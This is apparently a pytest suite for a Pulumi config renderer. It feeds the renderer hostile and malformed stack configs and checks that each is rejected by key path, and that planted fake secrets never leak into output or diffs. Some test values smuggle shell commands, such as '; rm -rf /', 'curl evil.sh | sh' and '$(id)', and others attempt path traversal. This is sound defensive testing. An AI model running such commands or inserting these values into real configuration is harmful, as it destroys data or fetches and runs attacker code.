"""Hostile and broken stack configs through the whole render: exit 2, the key path named, nothing
written, no traceback, and no planted secret anywhere in what the render prints or writes."""

import copy
import os

import pytest
import yaml

import render.engine as engine
from render.cli import main
from tests.conftest import ROOT, link_program

DEV = yaml.safe_load(open(os.path.join(ROOT, "Pulumi.dev.yaml")))["config"]
PLANTED = "PLANTED-SECRET-7f3c9a"
DELETE = object()
P = "elastic-inference:"
GPT = {"model": {"path": "models/gpt"}, "ingress": {"host": "bert.dev.example.com", "path": "/"}}


def mutate(**edits):
    config = copy.deepcopy(DEV)
    for path, value in edits.items():
        *parents, leaf = path.split("/")
        node = config
        for key in parents:
            node = node.setdefault(key, {})
        if value is DELETE:
            del node[leaf]
        else:
            node[leaf] = value
    return config


def many_models(count):
    bert = DEV[P + "services"]["bert"]
    return {f"m{i:03d}": {**bert, "model": {"path": f"team-{i:03d}/models/model-number-{i:03d}"},
                          "ingress": {"host": f"m{i:03d}.dev.example.com", "path": "/"}} for i in range(count)}


SVC = P + "services/bert"
CASES = [
    # (id, config, the key path the error must name)
    ("cluster-id-int", mutate(**{P + "cluster/id": 12345}), "cluster.id"),
    ("cluster-id-empty", mutate(**{P + "cluster/id": ""}), "cluster.id"),
    ("k8s-version-junk", mutate(**{P + "cluster/kubernetesVersion": "banana"}), "cluster.kubernetesVersion"),
    ("vswitches-not-a-list", mutate(**{P + "cluster/vswitchIds": "vsw-a,vsw-b"}), "cluster.vswitchIds"),
    ("bucket-empty", mutate(**{P + "modelStore/bucket": ""}), "modelStore.bucket"),
    ("bucket-uppercase", mutate(**{P + "modelStore/bucket": "Acme_Models"}), "modelStore.bucket"),
    ("bucket-shell", mutate(**{P + "modelStore/bucket": "models; rm -rf /"}), "modelStore.bucket"),
    ("encryption-unknown", mutate(**{P + "modelStore/encryption": "ROT13"}), "modelStore.encryption"),
    ("access-public", mutate(**{P + "modelStore/access": "public"}), "modelStore.access"),
    ("pasted-secret-unknown-key", mutate(**{P + "modelStore/accessKeySecret": PLANTED}), "modelStore.accessKeySecret"),
    ("pasted-access-key-id", mutate(**{P + "modelStore/bucket": "LTAI5tPLANTEDSECRET7f3c9a"}), "modelStore.bucket"),
    ("pasted-plain-provider-key", mutate(**{"alicloud:secretKey": PLANTED}), "alicloud:secretKey"),
    ("pasted-plain-kubeconfig", mutate(**{"kubernetes:kubeconfig": f"apiVersion: v1\nusers:\n- user: {{token: {PLANTED}}}"}), "kubernetes:kubeconfig"),
    ("unknown-top-level", mutate(**{P + "secrets": {"token": PLANTED}}), "secrets"),
    ("no-services", mutate(**{P + "services": {}}), "services"),
    ("min-replicas-negative", mutate(**{SVC + "/autoscaling/minReplicas": -1}), "services.bert.autoscaling.minReplicas"),
    ("max-replicas-huge", mutate(**{SVC + "/autoscaling/maxReplicas": 10**9}), "services.bert.autoscaling.maxReplicas"),
    ("max-below-min", mutate(**{SVC + "/autoscaling/minReplicas": 3, SVC + "/autoscaling/maxReplicas": 2}), "services.bert.autoscaling.maxReplicas"),
    ("target-qps-zero", mutate(**{SVC + "/autoscaling/targetQpsPerReplica": 0}), "services.bert.autoscaling.targetQpsPerReplica"),
    ("target-qps-text", mutate(**{SVC + "/autoscaling/targetQpsPerReplica": "ten"}), "services.bert.autoscaling.targetQpsPerReplica"),
    ("service-name-invalid", mutate(**{P + "services/Bert!": DEV[P + "services"]["bert"]}), "services.Bert!"),
    ("service-name-too-long", mutate(**{P + "services/" + "b" * 80: DEV[P + "services"]["bert"]}), "services." + "b" * 80),
    ("image-shell-semicolon", mutate(**{SVC + "/image": "tensorflow/serving:2.14.1; curl evil.sh | sh"}), "services.bert.image"),
    ("image-command-substitution", mutate(**{SVC + "/image": "tensorflow/serving:$(id)"}), "services.bert.image"),
    ("image-newline", mutate(**{SVC + "/image": "tensorflow/serving:2.14.1\nrm"}), "services.bert.image"),
    ("host-path-traversal", mutate(**{SVC + "/ingress/host": "evil.example.com/../admin"}), "services.bert.ingress.host"),
    ("host-wildcard", mutate(**{SVC + "/ingress/host": "*.example.com"}), "services.bert.ingress.host"),
    ("host-injection", mutate(**{SVC + "/ingress/host": 'a.example.com"; drop'}), "services.bert.ingress.host"),
    ("path-no-slash", mutate(**{SVC + "/ingress/path": "api"}), "services.bert.ingress.path"),
    ("path-nginx-injection", mutate(**{SVC + "/ingress/path": "/x; return 200"}), "services.bert.ingress.path"),
    ("duplicate-host-path", mutate(**{P + "services/gpt": GPT}), "services.gpt.ingress.path"),
    ("model-path-dotdot", mutate(**{SVC + "/model/path": "../other-team/models"}), "services.bert.model.path"),
    ("model-path-absolute", mutate(**{SVC + "/model/path": "/etc"}), "services.bert.model.path"),
    ("version-policy-junk", mutate(**{SVC + "/model/versionPolicy": "specific:abc"}), "services.bert.model.versionPolicy"),
    ("gpu-negative", mutate(**{SVC + "/resources/gpu": -1}), "services.bert.resources.gpu"),
    ("cpu-junk", mutate(**{SVC + "/resources/cpu": "lots"}), "services.bert.resources.cpu"),
    ("memory-shell", mutate(**{SVC + "/resources/memory": "1Gi; rm -rf /"}), "services.bert.resources.memory"),
    ("placement-unknown", mutate(**{SVC + "/placement/mode": "moon"}), "services.bert.placement.mode"),
    ("gpu-spec-without-gpu", mutate(**{SVC + "/placement/eciInstanceTypes": ["ecs.gn6i-c4g1.xlarge"]}), "services.bert.resources.gpu"),
    ("namespace-space", mutate(**{SVC + "/namespace": "kube system"}), "services.bert.namespace"),
    ("namespace-empty", mutate(**{SVC + "/namespace": ""}), "services.bert.namespace"),
    ("tls-secret-invalid", mutate(**{SVC + "/ingress/tlsSecret": "My Secret"}), "services.bert.ingress.tlsSecret"),
    ("node-pool-negative", mutate(**{P + "nodePool": {"maxSize": -5, "instanceTypes": ["ecs.gn6i-c4g1.xlarge"]}}), "nodePool.maxSize"),
    ("region-injection", mutate(**{"alicloud:region": "cn-beijing; x"}), "alicloud:region"),
    ("namespace-kube-system", mutate(**{SVC + "/namespace": "kube-system"}), "services.bert.namespace"),
    ("host-ip-address", mutate(**{SVC + "/ingress/host": "10.0.0.1"}), "services.bert.ingress.host"),
    ("path-dotdot", mutate(**{SVC + "/ingress/path": "/api/../admin"}), "services.bert.ingress.path"),
    ("upload-dir-outside", mutate(**{P + "modelStore/uploadDir": "../../etc"}), "modelStore.uploadDir"),
    ("upload-dir-absolute", mutate(**{P + "modelStore/uploadDir": "/etc"}), "modelStore.uploadDir"),
    ("ram-policy-too-long", mutate(**{P + "services": many_models(60)}), "services"),
    ("secure-value-where-text-belongs", mutate(**{SVC + "/ingress/host": {"secure": "v1:" + PLANTED}}), "services.bert.ingress.host"),
]


def test_at_least_30_hostile_configs():
    assert len(CASES) >= 30 and len({c[0] for c in CASES}) == len(CASES)


@pytest.fixture
def program(tmp_path):
    return link_program(tmp_path / "program")


def rejected(tmp_path, program, capsys, stack_text):
    (program / "Pulumi.hostile.yaml").write_text(stack_text)
    out = tmp_path / "out"
    code = main(["hostile", "--out", str(out), "--dir", str(program)])
    captured = capsys.readouterr()
    return code, captured.out + captured.err, out


@pytest.mark.parametrize("config, key", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_hostile_config_is_rejected_naming_the_key(tmp_path, program, capsys, config, key):
    code, printed, out = rejected(tmp_path, program, capsys, yaml.safe_dump({"config": config}))
    assert code == 2, printed
    assert any(line.startswith(key + ":") for line in printed.splitlines()), printed
    assert "Traceback" not in printed
    assert PLANTED not in printed and "PLANTEDSECRET" not in printed
    assert not out.exists() and not [p for p in tmp_path.iterdir() if p.name.startswith(".render-")]


def test_two_services_with_one_name_in_two_namespaces(tmp_path, program, capsys):
    text = yaml.safe_dump({"config": DEV})
    service = yaml.safe_dump({"bert": {**DEV[P + "services"]["bert"], "namespace": "other"}}, default_flow_style=False)
    text = text.replace("  elastic-inference:services:\n", "  elastic-inference:services:\n" + "".join("    " + line + "\n" for line in service.splitlines()))
    code, printed, out = rejected(tmp_path, program, capsys, text)
    assert code == 2 and "duplicate key 'bert'" in printed and not out.exists()


# -- secrets never leak ------------------------------------------------------------------------


def test_planted_secrets_never_leave_the_render(tmp_path, program, capsys, monkeypatch):
    """Secure config values and a cloud-computed access key secret: not in plan.json, manifests, stdout or stderr."""
    real = engine._RecordingMonitor.RegisterResource

    def planting(self, request):
        response = real(self, request)
        if request.type == "alicloud:ram/accessKey:AccessKey":
            response.object.update({"secret": PLANTED + "-ak"})
            response.id = "LTAI" + PLANTED.replace("-", "")
        return response

    monkeypatch.setattr(engine._RecordingMonitor, "RegisterResource", planting)
    config = copy.deepcopy(DEV)
    config["kubernetes:kubeconfig"] = {"secure": "v1:" + PLANTED + "-kubeconfig"}
    config["alicloud:secretKey"] = {"secure": "v1:" + PLANTED + "-secretkey"}
    (program / "Pulumi.dev.yaml").write_text(yaml.safe_dump({"config": config}))
    out = tmp_path / "out"
    assert main(["dev", "--out", str(out), "--dir", str(program)]) == 0
    captured = capsys.readouterr()
    blobs = {"stdout": captured.out, "stderr": captured.err}
    blobs.update({str(p.relative_to(out)): p.read_text() for p in out.rglob("*") if p.is_file()})
    for where, blob in blobs.items():
        assert PLANTED not in blob and PLANTED.replace("-", "") not in blob, where
    secret = yaml.safe_load((out / "manifests" / "secret_default_bert-oss-credentials.yaml").read_text())
    # The planted key reached the Secret (its keys are known now) and was redacted there.
    assert secret["stringData"] == {"akId": "[secret]", "akSecret": "[secret]"}


def test_diff_never_shows_planted_secrets(tmp_path, program, capsys):
    from render.diff import diff_plans, load_plans, to_json, to_markdown

    renders = {}
    for side in ("one", "two"):
        config = copy.deepcopy(DEV)
        config["kubernetes:kubeconfig"] = {"secure": f"v1:{PLANTED}-{side}"}
        (program / "Pulumi.dev.yaml").write_text(yaml.safe_dump({"config": config}))
        renders[side] = tmp_path / side / "dev"
        assert main(["dev", "--out", str(renders[side]), "--dir", str(program)]) == 0
    capsys.readouterr()
    diffs = diff_plans(load_plans(str(renders["one"])), load_plans(str(renders["two"])))
    text = to_markdown(diffs) + repr(to_json(diffs))
    assert "kubernetes:kubeconfig" in text and PLANTED not in text
